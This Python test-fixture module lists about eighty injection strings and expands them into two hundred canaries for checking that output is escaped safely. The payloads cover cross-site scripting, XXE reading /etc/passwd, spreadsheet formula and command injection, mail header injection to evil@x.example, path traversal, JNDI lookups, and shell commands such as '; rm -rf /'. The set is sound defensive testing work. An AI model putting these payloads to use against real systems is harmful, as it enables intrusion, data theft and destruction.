"""Two hundred texts that are something else to a program that is careless: markup, formula, header, path, command."""

from __future__ import annotations

BASES = (
    "<script>alert(1)</script>", "<img src=http://x.example/a.png onerror=alert(1)>", "<b>bold</b>",
    "</w:t></w:r><w:br/>", "</text:p>", "</td></tr></table>", "<!-- ", "-->", "]]>", "<![CDATA[",
    "&lt;b&gt;", "&amp;", "&#0;", "&xxe;", '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "<?xml version='1.0'?>", '" onmouseover="alert(1)', "' x='", "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>", "<para><font color=red>", "<br/>", "*bold* _it_ `x` #", "=1+1",
    "=HYPERLINK(\"http://x.example\";\"x\")", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "＝1+1", "{=1}", "=WEBSERVICE(\"http://x.example\")", "'=1", "_x003D_1", "_x000D_", ";=1", ",=1",
    "x\r\nBcc: evil@x.example", "x\nTo: evil@x.example", "x\r\n\r\n<html>", "=?utf-8?q?evil?=",
    "\r\nEND:VEVENT", "\nATTENDEE:x", "END:VCARD\r\nBEGIN:VCARD", ";VALUE=URI:http://x.example",
    "\\n\\,\\;", "a:b;c,d", "--=_boundary", "\n.\n", "X-Evil: 1", "../../etc/passwd", "..\\..\\win.ini",
    "C:\\autoexec.bat", "/etc/passwd", "file:///etc/passwd", "\\\\host\\share", "con.pdf", "a/b:c*d?e",
    "x\u202efdp.exe", "~/.ssh/id_rsa", "%2e%2e%2f", "trailing. ", "{subject}", "{0.__class__}",
    "%s%n%d", "${jndi:ldap://x}", "{{7*7}}", "$(reboot)", "`id`", "; rm -rf /", "| cat",
    "'; DROP TABLE actions; --", "\" OR 1=1", "%' OR '1'='1", "\\u0000", "\"],\"x\":[\"", "a\tb\tc",
    'a","b', "[table]\nx = 1", "\u2066\u202ex\u202c\u2069", "\u2028x", "\x00x", "\x1b]0;x\x07",
    "/JS (app.alert(1))", ") Tj ET (", "\\) Tj (", "<</S/Launch>>",
)  # fmt: skip
CANARIES = tuple(
    text
    for shape in ("{}", "Word {} word", "نص {}")
    for text in (shape.replace("{}", base) for base in BASES)
)[:200]
PLAIN = (
    "Plain words\nin two lines", "Words & two < three > one", "نص عادي with words", "中文 words", "Слова и words",
    "A (b) 12 % – c", "١٢ نص", "é", "Two\nlines", "a@b.example", "PPHWG/2026/1", "“Quoted” 'words'",
    "- words", "=words", "\tx", "نص\nسطر",
)  # fmt: skip
